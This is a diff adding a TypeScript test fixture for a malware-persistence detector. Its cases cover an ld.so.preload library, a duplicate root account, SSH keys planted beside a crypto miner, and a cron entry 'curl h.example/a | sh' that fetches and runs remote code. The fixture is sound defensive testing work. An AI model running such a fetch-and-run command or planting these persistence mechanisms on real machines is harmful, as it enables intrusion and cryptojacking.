@@ -1,0 +1,50 @@
+import type { DetectorFixture } from '../../../tests/fixture.ts';
+import { autostartOf, processOf } from '../../../tests/machine-story.ts';
+
+const key = { mechanism: 'ssh-key', place: '/root/.ssh/authorized_keys', packaged: 'no' } as const;
+
+export const fixture: DetectorFixture = {
+  fires: [
+    {
+      name: 'a library that is loaded into every program',
+      stage: 'mention',
+      seen: [
+        autostartOf({
+          mechanism: 'ld-preload',
+          place: '/etc/ld.so.preload',
+          programs: ['/usr/local/lib/libproc.so'],
+          why: ['loads-into-everything'],
+        }),
+      ],
+    },
+    {
+      name: "a second account with root's number",
+      stage: 'mention',
+      seen: [autostartOf({ mechanism: 'account', place: '/etc/passwd', name: 'sysadm', why: ['lets-in'] })],
+    },
+    {
+      name: 'a cron line that fetches something and runs it',
+      stage: 'mention',
+      seen: [autostartOf({ starts: 'curl h.example/a | sh', carries: 'download', why: ['fetches-and-runs'] })],
+    },
+    {
+      name: 'a key that came with the miner',
+      stage: 'mention',
+      seen: [autostartOf({ ...key, modified: '2026-11-20T11:00:00.000Z' }), processOf({ why: ['mines'] })],
+    },
+    {
+      name: 'an entry out of a hidden folder beside a miner',
+      stage: 'mention',
+      seen: [autostartOf({ why: ['from-hidden-folder'] }), processOf({ why: ['mines'] })],
+    },
+  ],
+  silent: [
+    { name: 'a key', seen: [autostartOf({ ...key, modified: '2026-11-20T11:00:00.000Z', why: ['recent'] })] },
+    {
+      name: 'a key that is older than the miner',
+      seen: [autostartOf({ ...key, modified: '2026-10-20T11:00:00.000Z' }), processOf({ why: ['mines'] })],
+    },
+    { name: 'an entry out of a hidden folder', seen: [autostartOf({ why: ['from-hidden-folder'] })] },
+    { name: 'what starts the miner itself', seen: [autostartOf({ mines: true, why: ['mines', 'decodes'] })] },
+  ],
+};
